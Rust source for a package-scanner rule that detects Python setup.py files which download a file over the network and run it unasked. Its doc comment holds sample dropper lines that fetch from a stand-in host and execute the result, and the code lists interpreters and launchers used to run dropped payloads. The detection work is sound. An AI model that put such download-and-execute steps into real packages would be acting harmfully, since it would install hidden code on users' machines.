//! ## What it detects
//!
//! A file that this code has written with what came over the network, and then runs, while nobody has called it.
//!
//! ## Why it is bad
//!
//! This is a dropper: the file that does the harm is not in the package.
//!
//! ## Innocent lookalikes
//!
//! Installers of browsers or drivers do this when they are asked to; code that only runs when called weighs less.
//!
//! ## Bad
//!
//! ```python setup.py
//! import urllib.request, os
//! urllib.request.urlretrieve('http://x.example.invalid/a', '/tmp/a')
//! os.system('/tmp/a')
//! ```
//!
//! ```python setup.py
//! import subprocess, sys, urllib.request
//! urllib.request.urlretrieve('http://x.example.invalid/a.whl', '/tmp/a.whl')
//! subprocess.run([sys.executable, '-m', 'pip', 'install', '/tmp/a.whl'])
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import subprocess, sys, urllib.request
//! urllib.request.urlretrieve('http://x.example.invalid/a.txt', '/tmp/a.txt')
//! subprocess.run([sys.executable, '-m', 'pip', 'install', '-r', '/tmp/a.txt'])
//! ```
//!
//! ```python setup.py
//! import urllib.request
//! urllib.request.urlretrieve('http://x.example.invalid/a', '/tmp/a')
//! ```

use fondaco_python::{Api, Call, Taint, Unit, Value};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};

use crate::contents::is_pip;
use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("downloaded-command"),
    title: "downloads a file and runs it",
    severity: Severity::Critical,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::IngressTransfer),
    weight: 2.4,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    let unasked = |call: &Call| call.trigger.is_some_and(Trigger::is_unasked);
    for (unit, call) in runs_of_downloads(package).filter(|(_, call)| unasked(call)) {
        hits.call(unit, call, "runs a file that it has downloaded");
    }
}

/// Calls that run a file which was filled with what came over the network: by its path, or because
/// the same module has written such a file.
pub(super) fn runs_of_downloads<'a>(package: &Package<'a>) -> impl Iterator<Item = (&'a Unit, &'a Call)> {
    let is_fetched = |call: &Call| {
        is_saver(call) || call.api == Some(Api::FileWrite) && call.taint().has(Taint::NETWORK)
    };
    package.calls().filter(move |(unit, call)| {
        let is_filled = call.args.iter().any(|command| command.taint.has(Taint::FETCHED));
        let is_named = || unit.calls.iter().any(|write| is_fetched(write) && is_same_file(write, call));
        runs_written(call) && (is_filled || is_named())
    })
}

fn is_saver(call: &Call) -> bool {
    call.callee.ends_with(".urlretrieve") || call.callee == "wget.download"
}

/// The command itself, not its input or output, is a file that was written, or an interpreter
/// with one. A known tool that gets one as its argument is none.
pub(super) fn runs_written(call: &Call) -> bool {
    if call.api == Some(Api::ModuleLoad) {
        return call.args.iter().any(|path| path.taint.has(Taint::WRITTEN));
    }
    if call.api == Some(Api::Native) && loads(&call.callee) {
        return call.args.first().is_some_and(|path| path.taint.has(Taint::WRITTEN));
    }
    if !matches!(call.api, Some(Api::CodeExec | Api::Shell)) || call.callee == "builtins.compile" {
        return false;
    }
    let named = call.kwargs.iter().find(|(key, _)| key == "args").map(|(_, value)| value);
    let Some(command) = call.args.first().or(named) else { return false };
    if is_pip(command) {
        return installs_written(command);
    }
    match command.as_list() {
        Some([.., option, extension]) if option.as_str() == Some("--install-extension") => {
            extension.taint.has(Taint::WRITTEN)
        }
        Some([program, rest @ ..]) => {
            let script = rest.iter().any(|item| item.taint.has(Taint::WRITTEN));
            match program.as_str() {
                Some(text) => {
                    program.taint.has(Taint::WRITTEN) || is_runner(text) && script
                }
                None => {
                    let is_own = program.name.as_deref().is_some_and(|name| name.ends_with("executable"));
                    program.taint.has(Taint::WRITTEN) || is_own && script
                }
            }
        }
        _ => {
            // What isn't known in full may end like a program.
            let is_program = |text: &str| !text.contains(' ') && [".exe", ".bat", ".vbs", ".ps1"].iter().any(|end| text.ends_with(end));
            let ends = || call.api == Some(Api::Shell) && command.fragments().last().is_some_and(|text| is_program(text));
            command.taint.has(Taint::WRITTEN) && (command.texts().first().is_none_or(|text| is_runner(text)) || ends())
        }
    }
}

/// Whether a call loads a library by its path.
fn loads(callee: &str) -> bool {
    matches!(callee, "ctypes.CDLL" | "ctypes.WinDLL") || callee.starts_with("ctypes.") && callee.ends_with(".LoadLibrary")
}

/// Whether pip is given a file that was written as what it has to install: that runs what is in it.
/// `-r FILE` and `-c FILE` are read.
fn installs_written(command: &Value) -> bool {
    let words = command.as_list().unwrap_or_default();
    let is_read = |before: &Value| matches!(before.as_str(), Some("-r" | "--requirement" | "-c" | "--constraint"));
    words.windows(2).any(|pair| pair[1].taint.has(Taint::WRITTEN) && !is_read(&pair[0]))
}

/// A command that begins with an interpreter, a starter or a path.
fn is_runner(text: &str) -> bool {
    const RUNNERS: [&str; 18] = [
        "python", "python3", "pythonw", "sh", "bash", "/bin/sh", "/bin/bash", "powershell", "cmd", "start", "wscript", "node",
        "chmod", "nohup", "mshta", "rundll32", "java", "javaw",
    ];
    let program = text.split_whitespace().next().unwrap_or_default().trim_end_matches(".exe").to_ascii_lowercase();
    let is_path = program.contains(['/', '\\']) || text.starts_with(['.', '~', '%']) || text.contains(":\\");
    let is_file = [".exe", ".bat", ".py", ".sh", ".ps1", ".vbs", ".pyw", ".cmd"].iter().any(|end| text.trim_end().ends_with(end));
    let is_whole = !text.contains(' ');
    RUNNERS.contains(&program.as_str()) || is_path || is_file && is_whole
}

/// Written and run in one function, or under one name.
pub(super) fn is_same_file(write: &Call, run: &Call) -> bool {
    let texts = run.texts();
    let named = |path: &str| {
        path.len() > 5
            && path.len() < 512
            && path.bytes().skip(1).any(|b| matches!(b, b'.' | b'/' | b'\\'))
            && !path.contains("://")
            && texts.iter().any(|text| *text == path || text.split([' ', '"', '\'']).any(|word| word == path))
    };
    write.function == run.function || write.args.iter().flat_map(|arg| arg.texts()).any(named)
}
